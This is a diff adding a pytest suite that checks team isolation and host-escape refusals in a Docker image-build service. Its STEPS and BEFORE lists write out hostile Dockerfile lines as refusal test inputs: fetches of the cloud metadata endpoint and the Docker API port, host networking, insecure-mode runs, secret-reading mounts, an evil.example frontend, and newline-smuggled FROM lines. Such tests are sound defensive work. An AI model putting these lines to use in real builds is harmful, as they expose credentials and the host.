@@ -1,0 +1,278 @@
+"""Builds and other teams: what is theirs is neither read, nor taken, nor used again; and the ways
+to the host that a Dockerfile has, by the page and by the API."""
+
+import secrets
+from collections.abc import Iterator
+from dataclasses import dataclass
+
+import pytest
+from django.conf import LazySettings
+from django.test import Client
+
+from access.actors import Actor
+from access.errors import Denied, Fenced, Hidden
+from access.models import FencePolicy, Holding, Quota, Team
+from access.roles import Role
+from audit.models import Entry, Result
+from engine.build_spec import BuildSpec
+from hosts.live import engine_of
+from images import actions
+from jobs.models import Job
+from tests.access.payloads import IMAGES
+from tests.access.people import actor, dock, grant, team, user
+from tests.api.client import program
+from tests.conftest import DockerCli
+from tests.images.conftest import mirrored, remove_marked
+from tests.images.people import ended
+from tests.runtime import Loop, until
+from tests.runtime import runtime as runtime
+
+BUILD = "/hosts/dock/images/build/"
+# What stands behind "FROM busybox", and how its refusal begins.
+STEPS = [
+    "COPY --from={theirs} / /x",
+    "FROM {theirs}",
+    "FROM {theirs} AS x",
+    "FROM {short}",
+    "FROM sha256:{id}",
+    "COPY --from={short} / /x",
+    "COPY --from=sha256:{id} / /x",
+    "RUN --mount=type=bind,from={theirs},target=/x cat /x/secret",
+    "RUN --mount=type=cache,target=/x ls /x",
+    "RUN --mount=type=ssh,id=x ls",
+    "RUN --network=host wget http://127.0.0.1/",
+    "RUN --security=insecure mount",
+    "RUN --device=vendor.com/gpu=all ls",
+    "ADD http://127.0.0.1:2375/containers/json /x",
+    "ADD http://169.254.169.254/latest/meta-data /x",
+    "ADD --chown=0 https://x/y /x",
+    "ADD git://x/y.git /x",
+    "ENV U=http://127.0.0.1/\nADD $U /x",
+    "ONBUILD ADD http://127.0.0.1/ /x",
+    "ONBUILD COPY --from={theirs} / /x",
+    "RUN <<EOF\nFROM {theirs}\nEOF",
+    "RUN true \\\\\nFROM {theirs}",
+    "RUN true\rFROM {theirs}",
+    "\u00a0FROM {theirs}",
+    "INCLUDE {theirs}",
+    "FROM \\\n  # x\n {theirs}",
+    "ARG X={theirs}\nFROM $X",
+]
+BEFORE = [
+    "# syntax=docker/dockerfile:1\n",
+    "#  Syntax = evil.example/frontend\n",
+    "# escape=`\n",
+    "ARG X={theirs}\nFROM $X AS x\n",
+    "ARG X={theirs}\nFROM ${{X:-scratch}} AS x\n",
+    "ARG X\nFROM ${{X:-{theirs}}} AS x\n",
+]
+
+
+@dataclass(frozen=True)
+class Yard:
+    """A developer of one team, the other team's own image, and a label of all that is tried."""
+
+    who: Actor
+    shop: Team
+    bank: Team
+    base: str
+    theirs: str
+    theirs_id: str
+    mark: str
+
+    def fill(self, text: str) -> str:
+        return text.format(theirs=self.theirs, id=self.theirs_id, short=self.theirs_id[:12])
+
+
+@pytest.fixture
+def yard(
+    runtime: Loop, docker_cli: DockerCli, busybox: str, settings: LazySettings
+) -> Iterator[Yard]:
+    mark = f"bld-{secrets.token_hex(4)}"
+    shop, bank = team("shop", user("dev")), team("bank")
+    for each in (shop, bank):
+        grant(each, Role.DEVELOPER)
+    FencePolicy.objects.create(host=dock(), registries="docker.io, 127.0.0.1:1")
+    base = until(lambda: engine_of("dock").mirror.find_image(busybox), 20)
+    Holding.objects.create(host="dock", kind="image", name=base.id)
+    theirs = f"127.0.0.1:1/{mark}/theirs:1"  # nothing listens there: the pull fails at once
+    text = f"FROM {busybox}\nLABEL of={mark}\nRUN echo theirs > /secret\n"
+    docker_cli("build", "-t", theirs, "-", input=text)
+    id = mirrored(docker_cli, theirs)
+    Holding.objects.create(host="dock", kind="image", name=id, team=bank)
+    yield Yard(actor(user("dev")), shop, bank, busybox, theirs, id, mark)
+    remove_marked(docker_cli, mark)
+
+
+def built(yard: Yard, text: str, **fields: object) -> Job:
+    return ended(actions.build(yard.who, "dock", BuildSpec(text, **fields)))  # type: ignore[arg-type]
+
+
+def unnamed(docker_cli: DockerCli, mark: str) -> set[str]:
+    """Containers and images without a name that have this label."""
+    label = f"--filter=label=of={mark}"
+    found = docker_cli("ps", "-aq", label).stdout
+    return set((found + docker_cli("images", "-q", "--filter=dangling=true", label).stdout).split())
+
+
+def attempts(yard: Yard) -> Iterator[str]:
+    for step in STEPS:
+        yield f"FROM {yard.base}\nLABEL of={yard.mark}\n{yard.fill(step)}\n"
+    for head in BEFORE:
+        yield f"{yard.fill(head)}FROM {yard.base}\nLABEL of={yard.mark}\n"
+
+
+def test_no_dockerfile_reads_what_is_others_or_leads_to_the_host(
+    yard: Yard, docker_cli: DockerCli
+) -> None:
+    """Refused by its line, or, what is here for others only, asked of its registry in vain."""
+    fields, asked = set(), 0
+    for text in attempts(yard):
+        try:
+            job = ended(actions.build(yard.who, "dock", BuildSpec(text)))
+        except Fenced as refused:
+            fields.add(refused.breaches[0][0])
+            continue
+        asked += 1
+        assert job.state == "failed", text
+        assert "Step 1" not in str(job.progress), text
+    assert (fields, asked) == ({"dockerfile"}, 11)
+    assert not Holding.objects.filter(name=yard.theirs_id).exclude(team=yard.bank).exists()
+    assert until(lambda: not unnamed(docker_cli, yard.mark), 20)
+
+
+def test_by_the_page_and_the_api_it_is_the_same(yard: Yard, docker_cli: DockerCli) -> None:
+    client, asks = Client(headers={"accept": "text/html"}), program(user("dev"))
+    client.force_login(user("dev"))
+    for text in (text for text in attempts(yard) if yard.theirs not in text):
+        sent = client.post(BUILD, {"dockerfile": text})
+        answer = asks.post("hosts/dock/builds", {"dockerfile": text})
+        assert (sent.status_code, answer.status_code) in ((403, 403), (302, 202)), text
+        if sent.status_code == 403:
+            assert "line " in sent.content.decode(), text
+            assert "line " in answer.content.decode(), text
+    for job in Job.objects.all():  # ids of others, asked for as names
+        assert ended(job).state == "failed"
+    for key in (
+        "networkmode",
+        "Networkmode",
+        "cgroupparent",
+        "securityopt",
+        "extrahosts",
+        "remote",
+    ):
+        body = {"dockerfile": "FROM scratch\nCOPY . /", key: "host"}
+        assert asks.post("hosts/dock/builds", body).status_code == 422
+        before = Job.objects.count()
+        assert client.post(BUILD, {**body, "dockerfile": "RUN x"}).status_code == 403
+        assert Job.objects.count() == before
+    denied = Entry.objects.filter(event="image.build", result=Result.DENIED)
+    assert denied.count() > len(STEPS)
+
+
+def test_no_image_of_another_registry_is_read(yard: Yard) -> None:
+    for image in IMAGES:
+        for step in (f"FROM {image}", f"FROM {yard.base}\nCOPY --from={image} / /"):
+            with pytest.raises(Fenced):
+                actions.build(yard.who, "dock", BuildSpec(f"{step}\n"))
+
+
+def test_a_name_of_others_is_not_taken(yard: Yard, docker_cli: DockerCli) -> None:
+    text = f"FROM {yard.base}\nLABEL of={yard.mark}\n"
+    for tag in (yard.theirs, yard.base):  # another team's, and a shared one's
+        with pytest.raises(Denied, match="is the name of an image of others"):
+            actions.build(yard.who, "dock", BuildSpec(text, tags=(tag,)))
+    Holding.objects.create(host="dock", kind="image", name=yard.theirs_id, team=yard.shop)
+    with pytest.raises(Denied, match="of others"):  # that both have
+        actions.build(yard.who, "dock", BuildSpec(text, tags=(yard.theirs,)))
+    assert docker_cli("inspect", "-f", "{{.Id}}", yard.theirs).stdout.strip()[7:] == yard.theirs_id
+
+
+def test_a_name_that_becomes_anothers_meanwhile_stays_theirs(
+    yard: Yard, docker_cli: DockerCli
+) -> None:
+    name = f"{yard.mark}/app:1"
+    text = f"FROM {yard.base}\nLABEL of={yard.mark}\nRUN sleep 2\n"
+    job = actions.build(yard.who, "dock", BuildSpec(text, tags=(name,)))
+    docker_cli("tag", yard.theirs, name)
+    until(lambda: engine_of("dock").mirror.find_image(name), 20)
+    over = ended(job)
+    assert (over.state, "of others" in over.error) == ("failed", True)
+    assert docker_cli("inspect", "-f", "{{.Id}}", name).stdout.strip()[7:] == yard.theirs_id
+    image_id = over.result["image_id"]
+    assert Holding.objects.get(kind="image", name=image_id).team == yard.shop
+    docker_cli("rmi", image_id)
+
+
+def test_the_image_is_the_teams_and_a_base_stays_whose_it_was(
+    yard: Yard, docker_cli: DockerCli
+) -> None:
+    job = built(yard, f"FROM {yard.base}\nLABEL of={yard.mark}\n", tags=(f"{yard.mark}/a:1",))
+    assert Holding.objects.get(name=job.result["image_id"]).team == yard.shop
+    nothing = built(yard, f"FROM {yard.base}\n", tags=(f"{yard.mark}/b:1",))
+    assert (nothing.state, nothing.result) == ("failed", {})
+    assert "added nothing" in nothing.error
+    assert not docker_cli("images", "-q", f"{yard.mark}/b").stdout
+
+
+def test_steps_of_others_are_not_used_again(yard: Yard, docker_cli: DockerCli) -> None:
+    """The very same steps: a guess at them would else show what they made."""
+    text = f"FROM {yard.base}\nLABEL of={yard.mark}\nRUN echo theirs > /secret\n"
+    first = built(yard, text, tags=(f"{yard.mark}/a:1",))
+    assert first.result["image_id"] != yard.theirs_id
+    assert "Using cache" not in str(first.progress)
+    again = built(yard, text, tags=(f"{yard.mark}/b:1",))
+    assert again.result["image_id"] == first.result["image_id"]
+    assert "Using cache" in str(again.progress)
+    fresh = built(yard, text, tags=(f"{yard.mark}/b:1",), no_cache=True)
+    assert fresh.result["image_id"] != first.result["image_id"]
+
+
+def test_what_a_base_does_to_those_built_from_it_is_judged(
+    yard: Yard, docker_cli: DockerCli
+) -> None:
+    name = f"{yard.mark}/trap:1"
+    trap = f"FROM {yard.base}\nLABEL of={yard.mark}\nONBUILD COPY --from={yard.theirs} / /x\n"
+    docker_cli("build", "-t", name, "-", input=trap)
+    Holding.objects.create(
+        host="dock", kind="image", name=mirrored(docker_cli, name), team=yard.shop
+    )
+    job = built(yard, f"FROM {name}\n")
+    assert job.state == "failed"
+    assert "ONBUILD takes no COPY from another image" in job.error
+
+
+def test_a_build_has_the_limits_and_the_room_of_its_team(yard: Yard, docker_cli: DockerCli) -> None:
+    grants = {"memory": 2**30, "memory_each": 96 * 2**20, "cpus": 2, "cpus_each": "0.5"}
+    quota = Quota.objects.create(team=yard.shop, host=dock(), **grants)
+    read = "cat /sys/fs/cgroup/memory.max /sys/fs/cgroup/memory/memory.limit_in_bytes"
+    job = actions.build(
+        yard.who,
+        "dock",
+        BuildSpec(f"FROM {yard.base}\nLABEL of={yard.mark}\nRUN {read}; sleep 4; exit 1\n"),
+    )
+    steps = "ps", "-q", f"--filter=label=of={yard.mark}"
+    id = until(lambda: docker_cli(*steps).stdout.strip(), 20)
+    limits = "{{.HostConfig.Memory}} {{.HostConfig.CpuQuota}} {{.HostConfig.NetworkMode}}"
+    told = docker_cli("inspect", "-f", limits + " {{.HostConfig.Privileged}}", id).stdout.split()
+    assert told == [str(96 * 2**20), "50000", "default", "false"]
+    quota.memory = 100 * 2**20
+    quota.save()
+    with pytest.raises(Denied, match="no room"):
+        actions.build(yard.who, "dock", BuildSpec(f"FROM {yard.base}\nRUN true\n"))
+    assert ended(job).state == "failed"
+    quota.memory, quota.containers = 2**30, 0
+    quota.save()
+    with pytest.raises(Denied, match="containers"):
+        actions.build(yard.who, "dock", BuildSpec(f"FROM {yard.base}\nRUN true\n"))
+
+
+def test_who_may_not_build_does_not(yard: Yard) -> None:
+    other = team("others", user("op"))
+    grant(other, Role.OPERATOR)
+    with pytest.raises(Denied):
+        actions.build(actor(user("op")), "dock", BuildSpec(f"FROM {yard.base}\n"))
+    with pytest.raises(Hidden):
+        actions.build(actor(user("nobody")), "dock", BuildSpec(f"FROM {yard.base}\n"))
+    with pytest.raises(Denied, match="team"):
+        actions.build(yard.who, "dock", BuildSpec(f"FROM {yard.base}\n", team="bank"))
